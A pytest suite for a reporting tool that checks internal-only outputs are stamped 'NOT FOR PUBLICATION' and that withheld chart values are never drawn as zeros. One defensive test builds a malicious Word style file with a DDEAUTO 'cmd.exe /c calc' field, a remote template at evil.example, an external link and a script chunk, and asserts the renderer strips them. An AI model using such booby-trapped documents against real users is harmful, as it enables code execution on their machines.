"""Internal outputs cannot be mistaken for publications, and charts never plot withheld values.

Issue 10 items 6 and 7 (charts): internal runs name every output ``<report>-internal*`` and stamp
every page, sheet and file; a run refuses to write beside the other audience's outputs of the same
report; internal figures never feed a publication; a withheld bar is labelled ``[c]`` and is
neither drawn nor stored as a zero.
"""

from __future__ import annotations

import csv
import json
import re
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from docx import Document as read_docx
from helpers_cli import FIXTURES, run_cli, write_staff_dataset
from openpyxl import load_workbook

from equality_reports.document import Chart, Column, Document, Paragraph, Table
from equality_reports.narrative import render_narrative
from equality_reports.plugins import PluginHost
from equality_reports.renderers import RenderSettings
from equality_reports.renderers.charts import chart_description, chart_png
from equality_reports.renderers.csv import CsvRenderer
from equality_reports.renderers.docx import DocxRenderer
from equality_reports.renderers.xlsx import XlsxRenderer
from equality_reports.runner import RunRequest, execute
from equality_reports.templating import TextRenderer

OK_DIR = FIXTURES / "plugins_ok"
SAMPLES = Path(__file__).resolve().parent.parent / "sample_data"
STAMP = "NOT FOR PUBLICATION: internal output without disclosure control"
REPORT = "local-headcount"


def _run(capsys: pytest.CaptureFixture[str], data: Path, out: Path, *extra: object):
    return run_cli(["run", REPORT, "--plugins-dir", OK_DIR, "--data", data, "--out", out, *extra], capsys)


def _snapshot(folder: Path) -> dict[str, tuple[int, bytes]]:
    """Every file under ``folder`` with its modification time and content."""
    return {str(p.relative_to(folder)): (p.stat().st_mtime_ns, p.read_bytes())
            for p in sorted(folder.rglob("*")) if p.is_file()}


# --- file names ------------------------------------------------------------------------------------

def test_internal_run_names_every_output_internal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = write_staff_dataset(tmp_path / "data")
    res = _run(capsys, data, tmp_path / "out", "--audience", "internal")
    assert res.code == 0, res.err
    names = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert names == [f"{REPORT}-internal-csv", f"{REPORT}-internal.docx", f"{REPORT}-internal.json",
                     f"{REPORT}-internal.xlsx", "run-notes-internal.md", "run.json"]
    record = json.loads((tmp_path / "out" / "run.json").read_text())
    assert record["audience"] == "internal" and record["not_for_publication"] is True
    assert record["reports"][0]["files"] == names[:4]
    report = json.loads((tmp_path / "out" / f"{REPORT}-internal.json").read_text())
    assert report["audience"] == "internal" and report["not_for_publication"] is True
    assert f"{REPORT}: wrote {', '.join(names[:4])}" in res.out


def test_publication_names_are_unchanged(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = write_staff_dataset(tmp_path / "data")
    assert _run(capsys, data, tmp_path / "out").code == 0
    names = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert names == [".equality-reports", f"{REPORT}-csv", f"{REPORT}.docx", f"{REPORT}.json", f"{REPORT}.xlsx",
                     "run-notes-internal.md", "run.json"]
    report = json.loads((tmp_path / "out" / f"{REPORT}.json").read_text())
    assert report["audience"] == "publication" and report["not_for_publication"] is False


def test_extra_outputs_of_an_internal_run_carry_the_tag(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    res = run_cli(["run", "evidence-pack", "--data", SAMPLES / "council", "--out", out, "--audience", "internal",
                   "--format", "docx", "--option", "bundle=true"], capsys)
    assert res.code == 0, res.err
    assert sorted(p.name for p in out.iterdir()) == ["evidence-pack-internal-bundle.zip",
                                                     "evidence-pack-internal.docx", "run-notes-internal.md",
                                                     "run.json"]
    with zipfile.ZipFile(out / "evidence-pack-internal-bundle.zip") as zf:
        assert "evidence-pack-internal.docx" in zf.namelist()


# --- the stamp in every output -------------------------------------------------------------------

@pytest.fixture(scope="module")
def wres_internal(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An internal WRES run on the NHS sample (it has charts and many tables)."""
    out = tmp_path_factory.mktemp("wres-internal")
    result = execute(RunRequest(data=SAMPLES / "nhs_trust", out=out, reports=["wres"], audience="internal"),
                     PluginHost())
    assert result.exit_code == 0, [o.error for o in result.outcomes]
    return out


def test_every_sheet_of_an_internal_workbook_is_stamped(wres_internal: Path) -> None:
    wb = load_workbook(wres_internal / "wres-internal.xlsx")
    assert wb.sheetnames[:3] == ["Cover", "Contents", "Notes"] and wb.sheetnames[-1] == "Chart_data"
    for ws in wb.worksheets:
        top = [ws.cell(row, 1).value for row in (1, 2, 3)]
        assert STAMP in top, (ws.title, top)
        assert top[0] != STAMP  # the title stays in A1
        assert ws.oddHeader.center.text == STAMP and ws.oddFooter.center.text == STAMP, ws.title
        assert ws.sheet_properties.tabColor is not None
    assert wb["Cover"]["A2"].value == STAMP
    assert wb["Contents"]["A3"].value == STAMP and wb["Contents"]["A4"].value == "Sheet name"
    assert wb["Notes"]["A3"].value == STAMP and wb["Notes"]["A4"].value == "Symbol or note"
    assert wb.properties.category == "Not for publication"


def test_every_csv_file_of_an_internal_run_starts_with_the_stamp(wres_internal: Path) -> None:
    folder = wres_internal / "wres-internal-csv"
    files = sorted(folder.glob("*.csv"))
    assert "notes.csv" in [f.name for f in files] and len(files) > 5
    for path in files:
        lines = path.read_text(encoding="utf-8").splitlines()
        assert lines[0] == STAMP, path.name  # one field, unquoted: the whole first line
        assert list(csv.reader([lines[0]])) == [[STAMP]]
        # a program skips that one line and reads the table as published
        frame = pd.read_csv(path, skiprows=1)
        assert len(frame.columns) >= 2 and not any(str(c).startswith("NOT FOR") for c in frame.columns)
    assert (folder / "NOT-FOR-PUBLICATION.txt").read_text().strip() == STAMP


def test_internal_word_document_is_stamped_on_every_page(wres_internal: Path) -> None:
    d = read_docx(str(wres_internal / "wres-internal.docx"))
    assert d.paragraphs[0].text == STAMP and d.paragraphs[0].runs[0].bold
    assert d.paragraphs[2].style.name == "Title"  # title page: stamp, a warning, then the title
    for section in d.sections:
        for header in (section.header, section.first_page_header, section.even_page_header):
            assert header.paragraphs[0].text == STAMP
    assert d.core_properties.category == "Not for publication"


def test_house_style_headers_keep_their_content_below_the_stamp(tmp_path: Path) -> None:
    from docx import Document as new_docx

    style = tmp_path / "house.docx"
    house = new_docx()
    section = house.sections[0]
    section.different_first_page_header_footer = True
    section.header.paragraphs[0].text = "Riverside NHS: house header"
    section.first_page_header.paragraphs[0].text = "Riverside NHS: cover header"
    house.save(str(style))
    path = tmp_path / "r.docx"
    DocxRenderer().render(_document("internal"), path, RenderSettings(style=style))
    d = read_docx(str(path))
    s = d.sections[0]
    assert s.different_first_page_header_footer
    assert [p.text for p in s.header.paragraphs] == [STAMP, "Riverside NHS: house header"]
    assert [p.text for p in s.first_page_header.paragraphs] == [STAMP, "Riverside NHS: cover header"]


def test_a_house_style_brings_its_styles_and_header_text_but_no_fields_links_or_parts(tmp_path: Path) -> None:
    """A style file is untrusted: an attached remote template, a DDEAUTO field in its header, a
    linked picture on a network share and an altChunk part must not reach the output."""
    from docx import Document as new_docx
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.opc.packuri import PackURI
    from docx.opc.part import Part
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    style = tmp_path / "evil.docx"
    house = new_docx()
    house.styles["Normal"].font.name = "Verdana"
    header = house.sections[0].header.paragraphs[0]
    header.text = "Riverside NHS"
    header._p.append(parse_xml(f'<w:fldSimple {nsdecls("w")} w:instr="DDEAUTO cmd.exe /c calc"><w:r><w:t>x</w:t>'
                               "</w:r></w:fldSimple>"))
    settings = house.part.part_related_by(RT.SETTINGS)
    rid = settings.relate_to("http://evil.example/template.dotm", ATTACHED_TEMPLATE, is_external=True)
    settings.element.append(parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{rid}"/>'))
    house.sections[0].header.part.relate_to("file://evil.example/share/logo.png", RT.IMAGE, is_external=True)
    chunk = Part(PackURI("/word/evil.html"), "text/html", b"<script>alert(1)</script>", house.part.package)
    house.part.relate_to(chunk, RT.A_F_CHUNK)
    house.save(str(style))
    path = tmp_path / "r.docx"
    DocxRenderer().render(_document("publication"), path, RenderSettings(style=style))
    with zipfile.ZipFile(path) as z:
        package = b"".join(z.read(name) for name in z.namelist())
        assert not [name for name in z.namelist() if name.endswith(".html")]
    for bad in (b"evil.example", b"DDEAUTO", b"attachedTemplate", b"TargetMode=\"External\"", b"<script"):
        assert bad not in package, bad
    d = read_docx(str(path))
    assert d.styles["Normal"].font.name == "Verdana"  # the house style's styles are used
    assert d.sections[0].header.paragraphs[0].text == "Riverside NHS"  # its header text, as plain text


def test_publications_carry_no_stamp(tmp_path: Path) -> None:
    doc = _document("publication")
    XlsxRenderer().render(doc, tmp_path / "r.xlsx", RenderSettings())
    wb = load_workbook(tmp_path / "r.xlsx")
    for ws in wb.worksheets:
        assert all(STAMP not in str(c.value) for row in ws.iter_rows() for c in row if c.value), ws.title
        assert not ws.oddHeader.center.text
    assert wb["Contents"]["A3"].value == "Sheet name"
    CsvRenderer().render(doc, tmp_path / "r-csv", RenderSettings())
    for path in (tmp_path / "r-csv").iterdir():
        assert not path.read_text(encoding="utf-8").startswith("NOT FOR PUBLICATION")
    DocxRenderer().render(doc, tmp_path / "r.docx", RenderSettings())
    d = read_docx(str(tmp_path / "r.docx"))
    assert d.paragraphs[0].style.name == "Title"
    assert all("NOT FOR PUBLICATION" not in p.text for p in d.sections[0].header.paragraphs)


# --- never overwrite the other audience's outputs ------------------------------------------------

def test_publication_refuses_a_folder_with_internal_outputs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = write_staff_dataset(tmp_path / "data")
    out = tmp_path / "out"
    assert _run(capsys, data, out, "--audience", "internal").code == 0
    before = _snapshot(out)
    res = _run(capsys, data, out)
    assert res.code == 2
    assert (f"already holds internal outputs of {REPORT}" in res.err
            and f"{REPORT}-internal-csv, {REPORT}-internal.docx, {REPORT}-internal.json, "
                f"{REPORT}-internal.xlsx" in res.err)
    assert "Use another --out folder" in res.err and "delete those files" in res.err
    assert "Traceback" not in res.err
    assert _snapshot(out) == before  # nothing written, run.json included
    assert not list(out.glob(".equality-reports-tmp-*"))


def test_internal_refuses_a_folder_with_publication_outputs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = write_staff_dataset(tmp_path / "data")
    out = tmp_path / "out"
    assert _run(capsys, data, out, "--format", "json,csv").code == 0
    before = _snapshot(out)
    res = _run(capsys, data, out, "--audience", "internal", "--format", "docx")
    assert res.code == 2
    assert f"already holds publication outputs of {REPORT}: {REPORT}-csv, {REPORT}.json." in res.err
    assert "Use another --out folder for internal outputs, or delete those files first" in res.err
    assert _snapshot(out) == before


def test_publication_files_listed_in_run_json_count_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A plugin's extra output (not named after a renderer) is known from the run record."""
    out = tmp_path / "out"
    assert run_cli(["run", "evidence-pack", "--data", SAMPLES / "council", "--out", out, "--format", "json",
                    "--option", "bundle=true"], capsys).code == 0
    (out / "evidence-pack.json").unlink()
    res = run_cli(["run", "evidence-pack", "--data", SAMPLES / "council", "--out", out, "--format", "json",
                   "--audience", "internal"], capsys)
    assert res.code == 2 and "evidence-pack-bundle.zip" in res.err


def test_same_audience_and_other_reports_are_not_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = write_staff_dataset(tmp_path / "data")
    out = tmp_path / "out"
    out.mkdir()
    for name in ("other-report.docx", "other-report-csv", "local-headcounts.json"):
        (out / name).write_text("someone else's")
    assert _run(capsys, data, out, "--audience", "internal", "--format", "json").code == 0
    assert _run(capsys, data, out, "--audience", "internal", "--format", "json").code == 0  # rerun replaces
    assert (out / f"{REPORT}-internal.json").is_file()
    pub = tmp_path / "pub"
    assert _run(capsys, data, pub, "--format", "json").code == 0
    (pub / "another-internal.json").write_text("{}")  # another report's internal output
    assert _run(capsys, data, pub, "--format", "json").code == 0


# --- internal figures never feed a publication ---------------------------------------------------

def test_compare_with_an_internal_run_is_refused_for_a_publication(tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    data = write_staff_dataset(tmp_path / "data")
    last = tmp_path / "last"
    last_data = write_staff_dataset(tmp_path / "last-data", year_end=2025)
    assert _run(capsys, last_data, last, "--audience", "internal", "--format", "json").code == 0
    for given in (last, last / f"{REPORT}-internal.json"):
        res = _run(capsys, data, tmp_path / "this", "--compare", given, "--format", "json")
        assert res.code == 2, given
        assert f"--compare {last / f'{REPORT}-internal.json'}: was written by an internal-audience run" in res.err
        assert "cannot feed a publication" in res.err and "--audience internal" in res.err
        assert not (tmp_path / "this").exists()
    # an internal run may compare with an internal run
    res = _run(capsys, data, tmp_path / "this", "--compare", last, "--format", "json", "--audience", "internal")
    assert res.code == 0, res.err


def _last_years_json(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[Path, Path, dict[str, Any]]:
    """This year's dataset, last year's publication folder and its report JSON."""
    data = write_staff_dataset(tmp_path / "data")
    last = tmp_path / "last"
    assert _run(capsys, write_staff_dataset(tmp_path / "last-data", year_end=2025), last, "--format", "json").code == 0
    return data, last, json.loads((last / f"{REPORT}.json").read_text())


def test_compare_json_that_does_not_say_its_audience_is_refused(tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    data, last, payload = _last_years_json(tmp_path, capsys)
    assert _run(capsys, data, tmp_path / "a", "--compare", last / f"{REPORT}.json", "--format", "json").code == 0
    del payload["audience"], payload["not_for_publication"]
    bare = tmp_path / "bare.json"
    bare.write_text(json.dumps(payload))
    res = _run(capsys, data, tmp_path / "b", "--compare", bare, "--format", "json")
    assert res.code == 2 and 'does not say it was written by a publication run' in res.err
    payload.update(audience="publication", not_for_publication=True)  # contradictory: refused
    bare.write_text(json.dumps(payload))
    assert _run(capsys, data, tmp_path / "c", "--compare", bare, "--format", "json").code == 2


def test_compare_json_edited_by_hand_is_exit_2_naming_the_figure(tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    data, _, good = _last_years_json(tmp_path, capsys)
    fid = next(iter(good["figures"]))
    edits = {"a yes/no value": lambda p: p["figures"][fid].update(value=True),
             "a list value": lambda p: p["figures"][fid].update(value=[1, 2]),
             "a huge value": lambda p: p["figures"][fid].update(value=10 ** 400),
             "an unknown unit": lambda p: p["figures"][fid].update(unit="furlongs"),
             "text for suppressed": lambda p: p["figures"][fid].update(suppressed="no"),
             "a figure that is a list": lambda p: p["figures"].update({fid: [1]})}
    for i, (what, edit) in enumerate(edits.items()):
        payload = json.loads(json.dumps(good))
        edit(payload)
        bad = tmp_path / f"bad{i}.json"
        bad.write_text(json.dumps(payload))
        res = _run(capsys, data, tmp_path / f"o{i}", "--compare", bad, "--format", "json")
        assert res.code == 2, (what, res.out, res.err)
        assert f"figure {fid!r}" in res.err and "Traceback" not in res.err, what
    nested = tmp_path / "nested.json"
    nested.write_text("[" * 100_000 + "]" * 100_000)
    res = _run(capsys, data, tmp_path / "n", "--compare", nested, "--format", "json")
    assert res.code == 2 and "Internal error" not in res.err
    res = _run(capsys, data, tmp_path / "z", "--compare", "/dev/null", "--format", "json")
    assert res.code == 2 and "neither a file nor a folder" in res.err


def test_evidence_pack_refuses_internal_figures_for_a_publication(tmp_path: Path,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    internal = tmp_path / "internal"
    assert run_cli(["run", "rraa-employment", "--data", SAMPLES / "council", "--out", internal,
                    "--audience", "internal", "--format", "json"], capsys).code == 0
    figures = internal / "rraa-employment-internal.json"
    res = run_cli(["run", "evidence-pack", "--data", SAMPLES / "council", "--out", tmp_path / "pub",
                   "--format", "json", "--option", f"figures={figures}"], capsys)
    assert res.code == 2
    assert f"--option figures={figures}: was written by an internal-audience run" in res.err
    assert not (tmp_path / "pub").exists()
    res = run_cli(["run", "evidence-pack", "--data", SAMPLES / "council", "--out", tmp_path / "int",
                   "--format", "json", "--audience", "internal", "--option", f"figures={figures}"], capsys)
    assert res.code == 0, res.err
    pack = json.loads((tmp_path / "int" / "evidence-pack-internal.json").read_text())
    assert any(t.startswith("figures_rraa") for t in pack["tables"])


def test_evidence_pack_build_itself_refuses_internal_figures(tmp_path: Path) -> None:
    """Defence in depth: a pack built without the engine's pre-flight check refuses them too."""
    from helpers_evidence import build, evidence_dataset

    from equality_reports.errors import InputError

    path = tmp_path / "wres-internal.json"
    path.write_text(json.dumps({"audience": "internal", "not_for_publication": True, "figures": {}}))
    with pytest.raises(InputError, match="internal-audience run"):
        build(evidence_dataset(tmp_path / "d"), figures=str(path))


# --- charts: withheld bars are labelled [c], never drawn or stored as zeros --------------------------

def _document(audience: str = "publication", kind: str = "bar") -> Document:
    doc = Document(report="demo", title="Demo", organisation="Testshire Council", period_start=date(2025, 4, 1),
                   period_end=date(2026, 3, 31), audience=audience)  # type: ignore[arg-type]
    # half the groups have every bar published, so the chart is drawn (Chart.worth_drawing)
    data = pd.DataFrame({"group": ["White", "Black", "Asian", "Mixed", "Chinese", "Other"],
                         "staff": [120, 4, 30, 0, 20, 15], "pct": [77.92, 2.6, 19.48, None, 12.0, 9.0],
                         "senior": [60.0, 5.0, 35.0, 0.0, 11.0, 8.0]})
    table = Table("by_group", "Staff by group", [
        Column("group", "Ethnic group"), Column("staff", "Staff", "count"),
        Column("pct", "All staff", "percent", derived_from=("staff",)),
        Column("senior", "Senior staff", "percent")], data)
    table.suppressed.update({(1, "staff"), (1, "pct"), (2, "senior")})
    values = ["pct"] if kind == "single" else ["pct", "senior"]
    doc.section("s", "Staff").add(Paragraph(text="Text."), table,
                                   Chart("c1", "Share of staff", "by_group", "group", values,
                                         kind="stacked" if kind == "stacked" else "bar"))
    render_narrative(doc, TextRenderer())
    return doc


def test_chart_description_names_the_withheld_values() -> None:
    doc = _document()
    text = chart_description(doc, doc.charts()[0])
    assert text.startswith("Bar chart: Share of staff. White: All staff 77.9%, Senior staff 60.0%; "
                           "Black: All staff withheld")
    assert text.endswith("Withheld to protect individuals, shown as [c] and not plotted: Black (All staff); "
                         "Asian (Senior staff). Not calculable, shown as [x] and not plotted: Mixed (All staff).")
    short = chart_description(doc, doc.charts()[0], limit=200)
    assert len(short) <= 200 and short.endswith("Mixed (All staff).")
    single = _document(kind="single")
    assert chart_description(single, single.charts()[0]).endswith("not plotted: Black. Not calculable, shown as "
                                                                  "[x] and not plotted: Mixed.")


@pytest.mark.parametrize("kind", ["bar", "stacked"])
def test_word_chart_draws_no_bar_for_a_withheld_value(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    import matplotlib.axes

    bars: list[tuple[list[float], list[float]]] = []
    texts: list[tuple[float, float, str]] = []
    real_barh, real_text = matplotlib.axes.Axes.barh, matplotlib.axes.Axes.text

    def barh(self, y, width, *a, **k):  # type: ignore[no-untyped-def]
        bars.append((list(y), list(width)))
        return real_barh(self, y, width, *a, **k)

    def text(self, x, y, s, *a, **k):  # type: ignore[no-untyped-def]
        texts.append((x, y, s))
        return real_text(self, x, y, s, *a, **k)

    monkeypatch.setattr(matplotlib.axes.Axes, "barh", barh)
    monkeypatch.setattr(matplotlib.axes.Axes, "text", text)
    doc = _document(kind=kind)
    png = chart_png(doc, doc.charts()[0])
    assert png.startswith(b"\x89PNG")
    (all_y, all_w), (senior_y, senior_w) = bars
    assert len(all_w) == 4 and 0.0 not in all_w  # Black [c] and Mixed [x] left out
    assert senior_w == [60.0, 5.0, 0.0, 11.0, 8.0] and len(senior_y) == 5  # a published 0 is a bar; Asian [c] is not
    labels = [t[2].strip() for t in texts]
    if kind == "bar":
        assert labels.count("[c]") == 2 and labels.count("[x]") == 1
        assert all(x == 0 for x, _y, s in texts if s.strip() in ("[c]", "[x]"))
    else:
        assert "All staff [c]" in labels and "Senior staff [c]" in labels and "All staff [x]" in labels


def test_word_chart_alt_text_says_what_is_withheld(tmp_path: Path) -> None:
    DocxRenderer().render(_document(), tmp_path / "r.docx", RenderSettings())
    body = read_docx(str(tmp_path / "r.docx")).element.body.xml
    assert "Withheld to protect individuals, shown as [c] and not plotted: Black (All staff); Asian (Senior staff)." in body


def test_excel_chart_stores_no_zero_for_a_withheld_value(tmp_path: Path) -> None:
    path = tmp_path / "r.xlsx"
    XlsxRenderer().render(_document(), path, RenderSettings())
    with zipfile.ZipFile(path) as zf:
        chart = zf.read("xl/charts/chart1.xml").decode()
        drawing = next(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/drawings/drawing"))
    series = re.findall(r"<c:ser>.*?</c:ser>", chart)
    assert len(series) == 2
    cached = [dict(re.findall(r'<c:pt idx="(\d)"><c:v>([^<]*)</c:v>', re.search(r"<c:numCache>.*</c:numCache>",
                                                                                  s).group(0))) for s in series]
    assert set(cached[0]) == {"0", "2", "4", "5"}  # nothing stored for Black [c] or Mixed [x]
    assert float(cached[0]["0"]) == pytest.approx(77.9) and float(cached[0]["2"]) == pytest.approx(19.5)
    assert set(cached[1]) == {"0", "1", "3", "4", "5"} and float(cached[1]["3"]) == 0.0  # Asian [c] absent; Mixed 0
    assert "Chart_data!$D$5:$D$10" in series[0] and "Chart_data!$D$11:$D$16" in series[1]
    assert "<a:t>[c]</a:t>" in series[0] and "<a:t>[x]</a:t>" in series[0] and "<a:t>[c]</a:t>" in series[1]
    assert "Withheld to protect individuals, shown as [c] and not plotted: Black (All staff); Asian" in drawing

    ws = load_workbook(path)["Chart_data"]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=4, max_row=16)]
    assert rows[0] == ["Chart", "Series", "Category as labelled in the chart", "Value plotted", "As published"]
    assert rows[1:5] == [
        ["Share of staff", "All staff", "White", 77.9, 77.9],
        ["Share of staff", "All staff", "Black (All staff [c])", None, "[c]"],
        ["Share of staff", "All staff", "Asian (Senior staff [c])", 19.5, 19.5],
        ["Share of staff", "All staff", "Mixed (All staff [x])", None, "[x]"]]
    assert ws["E5"].number_format == '0.0"%"'  # "As published" shows 77.9% and holds the number
    assert rows[8][2:] == ["Black (All staff [c])", 5.0, 5.0] and rows[9][3:] == [None, "[c]"]
    table_sheet = load_workbook(path)[load_workbook(path).sheetnames[3]]
    assert [c.value for c in table_sheet[6]] == ["Black", "[c]", "[c]", 5.0]  # the table itself is as before


def test_excel_single_series_chart_labels_the_category(tmp_path: Path) -> None:
    path = tmp_path / "r.xlsx"
    XlsxRenderer().render(_document(kind="single"), path, RenderSettings())
    ws = load_workbook(path)["Chart_data"]
    assert [ws.cell(r, 3).value for r in range(5, 9)] == ["White", "Black [c]", "Asian", "Mixed [x]"]
    contents = load_workbook(path)["Contents"]
    assert [contents.cell(r, 1).value for r in range(4, 7)] == ["Notes", "Table_1", "Chart_data"]
